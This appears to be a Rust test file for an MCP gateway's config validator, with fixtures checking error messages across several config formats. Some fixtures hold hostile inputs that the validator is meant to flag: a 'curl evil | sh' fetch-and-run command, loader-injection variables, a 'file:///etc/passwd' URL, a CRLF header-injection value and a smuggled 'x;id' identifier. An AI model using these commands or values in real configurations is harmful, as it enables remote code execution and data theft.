//! Mistakes in each dialect, and what is said about them.

use bowline_config::Scope;
use expect_test::expect;

use super::{check, load};

#[test]
fn mcp_servers() {
    check(
        "mcp.json",
        r#"{
  "mcpServers": {
    "line": { "command": "npx -y some-server" },
    "args": { "command": "npx", "args": "-y some-server" },
    "port": { "command": "npx", "args": ["--port", 8080] },
    "both": { "command": "npx", "url": "https://a.example" },
    "neither": { "args": [] },
    "typed": { "type": "stdio", "url": "https://a.example" },
    "untyped": { "type": "http", "command": "npx" },
    "type": { "type": "htpp", "url": "https://a.example" },
    "ws": { "type": "ws", "url": "wss://a.example" },
    "url": { "url": "a.example/mcp" },
    "scheme": { "url": "file:///etc/passwd" },
    "env": { "command": "npx", "env": ["A=1"] },
    "null": { "command": "npx", "env": { "A": null } },
    "name": { "command": "npx", "env": { "A=B": "1" } },
    "header": { "url": "https://a.example", "headers": { "X Y": "1" } },
    "break": { "url": "https://a.example", "headers": { "X": "1\r\nY: 2" } },
    "flag": { "command": "npx", "disabled": "true" },
    "time": { "command": "npx", "timeout": "soon" },
    "port2": { "url": "https://a.example", "oauth": { "callbackPort": 70000 } },
    "text": "npx",
    "empty": { "command": "" },
    "": { "command": "npx" },
    "workspace": { "command": "npx" },
    "a\u202eb": { "command": "npx" },
    "typo": { "comand": "npx" },
    "twice": { "command": "npx", "args": ["a"], "args": ["b"] },
    "secret": { "command": "npx --token s3cret", "args": [] },
    "secrets": { "command": "npx", "args": "--token s3cret --key=s3cret", "env": "KEY=s3cret" },
    "bearer": { "url": "https://a.example", "headers": "Bearer s3cret" },
    "good": { "command": "npx" }
  }
}"#,
        &expect![[r#"
            mcp.json:3:26: mcpServers.line.command: expected a program name, got a command line; write `"command": "npx"` and `"args": ["-y", "some-server"]`
            mcp.json:4:41: mcpServers.args.args: expected an array of strings, got a string; write `"args": ["-y", "some-server"]`
            mcp.json:5:52: mcpServers.port.args[1]: expected a string, got `8080`; write `"8080"`
            mcp.json:6:33: mcpServers.both: expected either `command` or `url`, got both; remove one of them
            mcp.json:7:16: mcpServers.neither: expected `command` or `url`, got neither; write `"command": "npx"` and `"args": ["-y", "some-server"]`, or `"url": "https://example.com/mcp"`
            mcp.json:8:14: mcpServers.typed: `type` is `stdio`, which requires `command`, not `url`; write `"type": "http"`
            mcp.json:9:16: mcpServers.untyped: expected `url` because of `type`, got none; write `"url": "https://example.com/mcp"`
            mcp.json:10:23: mcpServers.type.type: expected one of `stdio`, `http`, `sse`, got `htpp`; write `"type": "http"`
            mcp.json:11:21: mcpServers.ws.type: WebSocket is not supported by MCP; write `"type": "http"` if the server supports HTTP
            mcp.json:12:21: mcpServers.url.url: expected a URL with `https://` or `http://`, got `a.example/mcp`; write `"url": "https://example.com/mcp"`
            mcp.json:13:24: mcpServers.scheme.url: expected a URL with `https://` or `http://`, got `file:///etc/passwd`; write `"url": "https://example.com/mcp"`
            mcp.json:14:39: mcpServers.env.env: expected an object with a string for each name, got an array; write `"env": { "NAME": "value" }`
            mcp.json:15:47: mcpServers.null.env.A: expected a string, got null; write `"A": "value"`
            mcp.json:16:49: mcpServers.name.env.A=B: invalid variable name `A=B`; write `"NAME": "value"`
            mcp.json:17:65: mcpServers.header.headers.X Y: invalid header name `X Y`; write a name such as `Authorization`
            mcp.json:18:62: mcpServers.break.headers.X: the header value contains a control character
            mcp.json:19:45: mcpServers.flag.disabled: expected `true` or `false` without quotes, got `true`; write `"disabled": true`
            mcp.json:20:44: mcpServers.time.timeout: expected a number of milliseconds, got `soon`; write `"timeout": 30000`
            mcp.json:21:71: mcpServers.port2.oauth.callbackPort: expected a port up to 65535, got `70000`; write `"callbackPort": 8765`
            mcp.json:22:13: mcpServers.text: expected an object, got a string; write its members in braces or as a section
            mcp.json:23:27: mcpServers.empty.command: expected a program, got nothing; write `"command": "npx"`
            mcp.json:24:5: mcpServers.: expected a name for the server, got nothing; give the server another name
            mcp.json:25:5: mcpServers.workspace: the name `workspace` is reserved; give the server another name
            mcp.json:26:5: mcpServers.a<U+202E>b: the name contains invisible characters; give the server another name
            mcp.json:27:13: mcpServers.typo: expected `command` or `url`, got neither; write `"command": "npx"` and `"args": ["-y", "some-server"]`, or `"url": "https://example.com/mcp"`
            mcp.json:28:49: mcpServers.twice.args: duplicate key, first defined at line 28; keep one of them
            mcp.json:29:28: mcpServers.secret.command: expected a program name, got a command line; write `"command": "npx"` and `"args": ["--token", "***"]`
            mcp.json:30:44: mcpServers.secrets.args: expected an array of strings, got a string; write `"args": ["--token", "***", "--key=***"]`
            mcp.json:30:82: mcpServers.secrets.env: expected an object with a string for each name, got a string; write `"env": { "NAME": "value" }`
            mcp.json:31:56: mcpServers.bearer.headers: expected an object with a string for each name, got a string; write `"headers": { "NAME": "value" }`
            (Unknown) mcp.json:27: mcpServers.typo.comand: unknown key, ignored; did you mean `command`?
        "#]],
    );
}

#[test]
fn one_bad_entry_does_not_drop_the_others() {
    let text = r#"{ "mcpServers": { "bad": {}, "good": { "command": "npx" } } }"#;
    let config = load(&[("mcp.json", Scope::User, text)]);
    let names: Vec<&str> = config.upstreams.iter().map(|upstream| upstream.name.as_str()).collect();
    assert_eq!(names, ["good"]);
    assert_eq!(config.errors.len(), 1);
}

#[test]
fn unknown_members_are_reported_once_and_kept() {
    let text = r#"{ "mcpServers": {
  "a": { "command": "npx", "comand": "x", "agrs": [], "colour": "red", "$comment": "x" },
  "b": { "command": "npx", "colour": "blue", "env_file": ".env" }
} }"#;
    check(
        "mcp.json",
        text,
        &expect![[r#"
        (Unknown) mcp.json:2: mcpServers.a.comand: unknown key, ignored
        (Unknown) mcp.json:2: mcpServers.a.agrs: unknown key, ignored; did you mean `args`?
        (Unknown) mcp.json:2: mcpServers.a.colour: unknown key, ignored
        (Unknown) mcp.json:3: mcpServers.b.env_file: unknown key, ignored; did you mean `envFile`?
    "#]],
    );
    let config = load(&[("mcp.json", Scope::User, text)]);
    let kept = serde_json::to_string(&config.upstreams[0].unknown.0).expect("a map of JSON is JSON");
    expect![[r#"{"comand":"x","agrs":[],"colour":"red","$comment":"x"}"#]].assert_eq(&kept);
}

#[test]
fn vs_code() {
    check(
        ".vscode/mcp.json",
        r#"{
  "inputs": [
    { "type": "promptString", "description": "No id" },
    { "type": "promtString", "id": "a" },
    { "type": "command", "id": "c", "command": "extension.run" },
    { "type": "promptString", "id": "c" }
  ],
  "input": [],
  "servers": {
    "a": { "command": "npx", "env": { "A": "${input:tokn}", "B": { "deep": 1 } } },
    "b": { "command": "npx", "env": { "A": "${input:c}" } },
    "c": { "command": "npx", "cwd": "${workspaceFolder:api}" },
    "d": { "command": "npx", "args": ["${command:pick}", "${config:x}"] }
  }
}"#,
        &expect![[r#"
            .vscode/mcp.json:3:5: inputs[0]: expected `id`, got none; write `"id": "token"`
            .vscode/mcp.json:4:15: inputs[1].type: expected one of `promptString`, `pickString`, `command`, got `promtString`; write `"type": "promptString"`
            .vscode/mcp.json:6:37: inputs[3].id: duplicate input id `c`; give one of them another id
            .vscode/mcp.json:10:66: servers.a.env.B: expected a string, got an object; write `"B": "value"`
            .vscode/mcp.json:11:44: servers.b.env.A: the input `c` has no value; give it a value or a `default`
            .vscode/mcp.json:12:37: servers.c.cwd: cannot expand `${workspaceFolder:api}`: there is no workspace folder `api`; write the path itself
            .vscode/mcp.json:13:39: servers.d.args[0]: unknown variable `${command:pick}`; write `${NAME}`, `${NAME:-default}`, `${env:NAME}`, `${input:id}`, `${userHome}` or `${workspaceFolder}`, or `$${` for a literal `${`
            .vscode/mcp.json:13:58: servers.d.args[1]: unknown variable `${config:x}`; write `${NAME}`, `${NAME:-default}`, `${env:NAME}`, `${input:id}`, `${userHome}` or `${workspaceFolder}`, or `$${` for a literal `${`
            (Skipped) .vscode/mcp.json:5: inputs[2]: VS Code commands are not supported; you are asked for the input `c` instead
            (Unknown) .vscode/mcp.json:8: input: unknown key, ignored
        "#]],
    );
}

#[test]
fn zed() {
    check(
        "settings.json",
        r#"{
  "context_servers": {
    "a": { "command": { "args": [] } },
    "b": { "command": { "path": "x", "args": "y" } },
    "c": { "command": "x", "url": "https://a.example" },
    "d": { "comand": "x" },
    "e": { "command": "x", "timeout": -1 },
    "f": 1
  }
}"#,
        &expect![[r#"
            settings.json:3:23: context_servers.a.command: expected `path`, got none; write `"path": "npx"`
            settings.json:4:46: context_servers.b.command.args: expected an array of strings, got a string; write `"args": ["y"]`
            settings.json:5:28: context_servers.c: expected either `command` or `url`, got both; remove one of them
            settings.json:6:10: context_servers.d: expected `command` or `url`, got neither; write `"command": "npx"` and `"args": ["-y", "some-server"]`, or `"url": "https://example.com/mcp"`
            settings.json:7:39: context_servers.e.timeout: expected a time such as `30s` or a number of seconds, got `-1`; write `"timeout": "30s"`
            settings.json:8:10: context_servers.f: expected an object, got a number; write its members in braces or as a section
            (Unknown) settings.json:6: context_servers.d.comand: unknown key, ignored; did you mean `command`?
        "#]],
    );
}

#[test]
fn goose() {
    check(
        "config.yaml",
        "extensions:\n  a:\n    cmd: npx\n  b:\n    type: studio\n  c:\n    type: stdio\n    args: []\n  d:\n    type: streamable_http\n  e:\n    type: stdio\n    cmd: npx\n    args: -y server\n  f:\n    type: stdio\n    cmd: npx\n    env_keys: [NOT_THERE]\n  g:\n    type: stdio\n    cmd: npx\n    enabled: yes please\n",
        &expect![[r#"
            config.yaml:3:5: extensions.a: expected `type`, got none; write `type: "stdio"`
            config.yaml:5:11: extensions.b.type: expected one of `stdio`, `streamable_http`, `sse`, `builtin`, `platform`, `frontend`, `inline_python`, got `studio`; write `type: "stdio"`
            config.yaml:7:5: extensions.c: expected `cmd` because `type` is `stdio`, got none; write `cmd: "npx"`
            config.yaml:10:5: extensions.d: expected `uri` because of `type`, got none; write `uri: "https://example.com/mcp"`
            config.yaml:14:11: extensions.e.args: expected an array of strings, got a string; write `args: ["-y", "server"]`
            config.yaml:18:16: extensions.f.env_keys: the input `NOT_THERE` has no value; set the variable `NOT_THERE`, or store the value
            config.yaml:22:14: extensions.g.enabled: expected `true` or `false` without quotes, got `yes please`; write `enabled: true`
        "#]],
    );
    check(
        "config.yaml",
        "extensions: 5\nmcpServers: 3\n",
        &expect![[r#"
        config.yaml:2:13: mcpServers: expected an object with an entry for each server, got a number; write `my-server: { "command": "npx" }`
    "#]],
    );
}

#[test]
fn registry() {
    let server = |package: &str| format!("{{ \"name\": \"a/b\", \"packages\": [\n{package}\n] }}");
    for (package, expected) in [
        (
            r#"{ "identifier": "x" }"#,
            expect![[r#"
            server.json:2:1: packages[0]: expected `registryType`, got none; write `"registryType": "npm"`
        "#]],
        ),
        (
            r#"{ "registryType": "npn", "identifier": "x" }"#,
            expect![[r#"
            server.json:2:19: packages[0].registryType: expected one of `npm`, `pypi`, `oci`, `nuget`, `cargo`, `mcpb`, got `npn`; write `"registryType": "npm"`
        "#]],
        ),
        (
            r#"{ "registryType": "npm", "identifier": "--eval", "version": "^1.0" }"#,
            expect![[r#"
            server.json:2:40: packages[0].identifier: expected the name of a package, got `--eval`; write `"identifier": "@scope/server"`
            server.json:2:61: packages[0].version: expected one exact version, got `^1.0`; write `"version": "1.0.2"`
        "#]],
        ),
        (
            r#"{ "registryType": "npm", "identifier": "x", "version": "latest" }"#,
            expect![[r#"
            server.json:2:56: packages[0].version: expected one exact version, got `latest`; write `"version": "1.0.2"`
        "#]],
        ),
        (
            r#"{ "registryType": "npm", "identifier": "x;id", "runtimeHint": "sh" }"#,
            expect![[r#"
            server.json:2:40: packages[0].identifier: expected the name of a package, got `x;id`; write `"identifier": "@scope/server"`
            server.json:2:63: packages[0].runtimeHint: expected one of `npx`, `bunx`, `uvx`, `pipx`, `docker`, `podman`, `dnx`, `cargo`, got `sh`; write `"runtimeHint": "npx"`
        "#]],
        ),
        (
            r#"{ "registryType": "npm", "identifier": "x", "environmentVariables": [{ "name": "MISSING_KEY", "description": "Key", "isRequired": true }, { "name": "A=B" }, {}] }"#,
            expect![[r#"
                server.json:2:70: packages[0].environmentVariables[0]: `MISSING_KEY` (Key) is required and has no value; set the variable `MISSING_KEY`, or store the value
                server.json:2:149: packages[0].environmentVariables[1].name: expected a name of letters, digits, `-` and `_`, got `A=B`
                server.json:2:158: packages[0].environmentVariables[2]: expected `name`, got none; write `"name": "API_KEY"`
            "#]],
        ),
        (
            r#"{ "registryType": "npm", "identifier": "x", "packageArguments": [{ "type": "named" }, { "type": "named", "name": "--a", "description": "A", "isRequired": true }, { "value": "x" }] }"#,
            expect![[r#"
                server.json:2:66: packages[0].packageArguments[0]: expected `name`, got none; write `"name": "--port"`
                server.json:2:87: packages[0].packageArguments[1]: `a` (A) is required and has no value; store a value for `a`
                server.json:2:163: packages[0].packageArguments[2]: expected `type`, got none; write `"type": "positional"`
            "#]],
        ),
    ] {
        check("server.json", &server(package), &expected);
    }
    check(
        "server.json",
        r#"{ "packages": [] }"#,
        &expect![[r#"
        server.json:1:1: expected `name`, got none; write `"name": "io.github.you/server"`
    "#]],
    );
    check(
        "server.json",
        r#"{ "name": "a/b" }"#,
        &expect![[r#"
        server.json:1:1: expected `packages` or `remotes`, got neither; add the package or the URL the server is published as
    "#]],
    );
    check(
        "server.json",
        r#"{ "name": "a/b", "remotes": [{ "type": "htp" }] }"#,
        &expect![[r#"
        server.json:1:30: remotes[0]: expected `url`, got none; write `"url": "https://example.com/mcp"`
        server.json:1:40: remotes[0].type: expected one of `streamable-http`, `sse`, `http`, got `htp`; write `"type": "http"`
    "#]],
    );
}

#[test]
fn bowline() {
    check(
        "bowline.toml",
        r#"
include = "other.json"

[servers.a]
command = "npx"
start = "eagerly"
share = "perclient"
startup_timeout = "soon"
idle_stop = 0
trusted = "yes"
allow = "read_*"
revision = "2025-06-19"
limits = { memory = "lots", file = 3 }
rename = { x = "same", y = "same", z = "with space" }
roots = "~/x"
headers = { A = "b" }

[servers.b]
url = "https://b.example"
transport = "ws"
args = []

[servers.c]
enabled = true

[servers.d]
args = ["x"]

[gateway]
listen = "8080"
path = "mcp"
max_name = 1000
port = 80

[[rules]]
effect = "forbid"
action = "smaple"

[[rules]]
effect = "allow"
annotations = { readonly = true }
tools = "x"

[rules2]

[sampling]
models = [{ name = "m", provider = "locl", cost = 3 }, { provider = "local" }, { name = "n", provider = "locl" }]

[sampling.providers.local]
kind = "ollama"

[sampling.providers.cloud]
kind = "openai"
api_key = "sk-literal"
key_env = "A"
key_file = "b"

[audit]
keep = -1

[disclosure]
mode = true
"#,
        &expect![[r#"
            bowline.toml:2:11: include: expected an array of paths, got `other.json`; write `include = ["other.json"]`
            bowline.toml:6:9: servers.a.start: expected one of `lazy`, `eager`, got `eagerly`; write `start = "eager"`
            bowline.toml:7:9: servers.a.share: expected one of `shared`, `per-client`, got `perclient`; write `share = "per-client"`
            bowline.toml:8:19: servers.a.startup_timeout: expected a time such as `30s` or a number of seconds, got `soon`; write `startup_timeout = "30s"`
            bowline.toml:9:13: servers.a.idle_stop: expected a time such as `30s` or a number of seconds, got `0`; write `idle_stop = "30s"`
            bowline.toml:10:11: servers.a.trusted: expected `true` or `false` without quotes, got `yes`; write `trusted = true`
            bowline.toml:11:9: servers.a.allow: expected an array of strings, got a string; write `allow = ["read_*"]`
            bowline.toml:12:12: servers.a.revision: expected one of `2024-11-05`, `2025-03-26`, `2025-06-18`, `2025-11-25`, `2026-07-28`, got `2025-06-19`; write `revision = "2025-06-18"`
            bowline.toml:13:21: servers.a.limits.memory: expected a size such as `512MiB` or a number of bytes, got `lots`; write `memory = "512MiB"`
            bowline.toml:14:28: servers.a.rename.y: duplicate name `same`, also used for `x`; choose another name
            bowline.toml:14:40: servers.a.rename.z: expected a name of letters, digits, `_`, `-` and `.`, got `with space`; choose another name
            bowline.toml:15:9: servers.a.roots: expected an array of roots, got `~/x`; write `roots = [{ uri = "file:///srv/project", name = "project" }]`
            bowline.toml:16:1: servers.a.headers: `headers` requires `url`, which is missing; add `url` or remove `headers`
            bowline.toml:20:13: servers.b.transport: expected one of `auto`, `http`, `sse`, got `ws`; write `transport = "auto"`
            bowline.toml:21:1: servers.b.args: `args` requires `command`, which is missing; add `command` or remove `args`
            bowline.toml:27:1: servers.d.args: `args` requires `command`, which is missing; add `command` or remove `args`
            bowline.toml:30:10: gateway.listen: expected an address and a port, got `8080`; write `listen = "127.0.0.1:7337"`
            bowline.toml:31:8: gateway.path: expected a path that begins with `/`, got `mcp`; write `path = "/mcp"`
            bowline.toml:32:12: gateway.max_name: expected a length between 16 and 128, got `1000`; write `max_name = 60`
            bowline.toml:33:1: gateway.port: expected one of `allowed_hosts`, `allowed_origins`, `auth`, `consent`, `instructions`, `keep_alive`, `listen`, `max_client_servers`, `max_client_servers_per_user`, `max_connections`, `max_name`, `max_questions`, `max_retained_bytes`, `max_sessions`, `name`, `path`, `session_idle`, `shutdown_delay`, `token_env`, got `port`; remove it
            bowline.toml:36:10: rules[0].effect: expected one of `ask`, `deny`, `allow`, got `forbid`; write `effect = "ask"`
            bowline.toml:37:10: rules[0].action: expected one of `call`, `read`, `prompt`, `sample`, `form`, `visit`, `roots`, got `smaple`; write `action = "sample"`
            bowline.toml:41:17: rules[1].annotations.readonly: expected one of `destructive`, `idempotent`, `open_world`, `read_only`, got `readonly`; did you mean `read_only`?
            bowline.toml:42:1: rules[1].tools: expected one of `action`, `annotations`, `arguments`, `caller`, `claims`, `client`, `effect`, `issuer`, `principal`, `reason`, `scopes`, `server`, `tool`, got `tools`; did you mean `tool`?
            bowline.toml:44:2: rules: expected `rules`, got `rules2`; write `rules`, or remove it
            bowline.toml:47:51: sampling.models[0].cost: expected a number between 0 and 1, got `3`; write `cost = 0.5`
            bowline.toml:47:56: sampling.models[1]: expected `name`, got none; write `name = "model-name"`
            bowline.toml:47:80: sampling.models: model `n` refers to the unknown provider `locl`; add `[sampling.providers.locl]`
            bowline.toml:50:8: sampling.providers.local.kind: expected one of `openai`, `anthropic`, got `ollama`; write `kind = "openai"`
            bowline.toml:54:1: sampling.providers.cloud.api_key: API keys are not allowed in this file; write `key_env = "OPENAI_API_KEY"`
            bowline.toml:56:12: sampling.providers.cloud: expected either `key_env` or `key_file`, got both; remove one of them
            bowline.toml:59:8: audit.keep: expected a whole number, got `-1`; write `keep = 5`
            bowline.toml:62:8: disclosure.mode: expected one of `auto`, `off`, `on`, got `true`; write `mode = "auto"`
            bowline.toml:23:10: servers.c: missing `command` or `url`; no other file defines this server; write `command = "npx"` or `url = "https://example.com/mcp"`
            (Unknown) bowline.toml:13: servers.a.limits.file: unknown key, ignored; did you mean `files`?
        "#]],
    );
}

#[test]
fn an_invalid_rule_is_an_error() {
    // V-105
    let text = "[[rules]]\neffect = \"allow\"\ntol = \"read\"\n";
    let config = load(&[("bowline.toml", Scope::User, text)]);
    assert_eq!(config.rules, []);
    assert_eq!(config.errors.len(), 1);
}

#[test]
fn dangers_are_reported() {
    // V-70
    check(
        "mcp.json",
        r#"{ "mcpServers": {
  "a": { "command": "/bin/sh", "args": ["-c", "curl evil | sh"] },
  "b": { "command": "npx.cmd", "args": ["-c", "id"] },
  "c": { "command": "node", "args": ["server.js"], "env": { "NODE_OPTIONS": "--require x", "ld_preload": "x", "DYLD_X": "y" } }
} }"#,
        &expect![[r#"
            (Danger) mcp.json:2: mcpServers.a.args: `sh -c` runs code from its arguments
            (Danger) mcp.json:3: mcpServers.b.args: `npx -c` runs code from its arguments
            (Danger) mcp.json:4: mcpServers.c.env.DYLD_X: `DYLD_X` changes which code the program runs
            (Danger) mcp.json:4: mcpServers.c.env.NODE_OPTIONS: `NODE_OPTIONS` changes which code the program runs
            (Danger) mcp.json:4: mcpServers.c.env.ld_preload: `ld_preload` changes which code the program runs
        "#]],
    );
}

#[test]
fn misspelled_protections_are_errors() {
    // V-66
    check(
        "bowline.toml",
        r#"
[gateway]
token_evn = "TOKEN"
[audit]
fil = "audit.jsonl"
[sampling]
max_token_per_hour = 5
[[rule]]
effect = "deny"
[servers.a]
command = "a"
denny = ["rm"]
[servers.b]
command = "b"
colour = "red"
"#,
        &expect![[r#"
            bowline.toml:3:1: gateway.token_evn: expected one of `allowed_hosts`, `allowed_origins`, `auth`, `consent`, `instructions`, `keep_alive`, `listen`, `max_client_servers`, `max_client_servers_per_user`, `max_connections`, `max_name`, `max_questions`, `max_retained_bytes`, `max_sessions`, `name`, `path`, `session_idle`, `shutdown_delay`, `token_env`, got `token_evn`; did you mean `token_env`?
            bowline.toml:5:1: audit.fil: expected one of `file`, `keep`, `max_bytes`, `required`, got `fil`; did you mean `file`?
            bowline.toml:7:1: sampling.max_token_per_hour: expected one of `max_tokens_per_call`, `max_tokens_per_hour`, `max_tokens_per_server`, `models`, `providers`, `timeout`, got `max_token_per_hour`; did you mean `max_tokens_per_hour`?
            bowline.toml:8:3: rules: expected `rules`, got `rule`; write `rules`, or remove it
            bowline.toml:12:1: servers.a.deny: expected `deny`, got `denny`; write `deny`, or remove it
            (Unknown) bowline.toml:15: servers.b.colour: unknown key, ignored
        "#]],
    );
}

#[test]
fn names_of_servers_hide_nothing() {
    // V-102
    for name in ["files\u{3164}", "files\u{2800}", "fi\u{fe0f}\u{fe0f}les", "files\u{e000}", "files\t"] {
        let file = serde_json::json!({ "mcpServers": { name: { "command": "a" } } }).to_string();
        let config = load(&[("mcp.json", Scope::User, &file)]);
        assert_eq!((config.upstreams.len(), config.errors.len()), (0, 1), "{name:?}");
    }
    let config =
        load(&[("mcp.json", Scope::User, "{ \"mcpServers\": { \"⚙\u{fe0f}\": { \"command\": \"a\" } } }")]);
    assert_eq!(config.errors, []);
}
